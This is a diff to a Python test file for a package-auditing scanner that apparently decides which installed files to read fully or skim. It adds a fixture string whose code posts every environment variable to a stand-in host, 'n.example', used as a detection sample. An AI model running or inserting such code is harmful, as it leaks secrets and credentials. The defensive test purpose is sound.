@@ -12,6 +12,7 @@ from ringfence.audit.messages import Look
 from ringfence.audit.survey import Scope, survey
 
 PLAIN = "def add(a, b):\n    return a + b\n"
+SECRETS = "import os, requests\nrequests.post('https://n.example', json=dict(os.environ))\n"
 HOME = "lib/site-packages/pack/"
 
 
@@ -40,7 +41,8 @@ HOME = "lib/site-packages/pack/"
 )
 def test_a_file_with_a_word_that_tells_is_read(text: str) -> None:
     path = HOME + "a.py"
-    assert not read(path, (PLAIN + text).encode(), whole=False).skimmed
+    assert glance.tells((PLAIN + text).encode())
+    assert not read(path, (SECRETS + text).encode(), whole=False).skimmed
     assert read(path, (PLAIN + "U = 'https://docs.example.net/'\n").encode(), whole=False).skimmed
 
 
@@ -48,6 +50,13 @@ def test_a_file_with_a_word_that_tells_is_read(text: str) -> None:
 def test_only_what_is_installed_is_skimmed(path: str) -> None:
     assert not read(path, PLAIN.encode(), whole=False).skimmed
     assert not read(HOME + "a.py", PLAIN.encode()).skimmed
+
+
+def test_of_a_file_in_which_nothing_begins_or_ends_as_much_is_kept_as_of_a_skimmed_one() -> None:
+    text = "import importlib\nfrom .net import send\ndef go(x):\n    send(x)\n"
+    module = read(HOME + "a.py", text.encode(), whole=False)
+    assert (module.skimmed, module.summary.flows) == ((".net:send", "."), ())
+    assert read(HOME + "a.py", text.encode()).summary.flows
 
 
 def test_another_encoding_is_read() -> None:
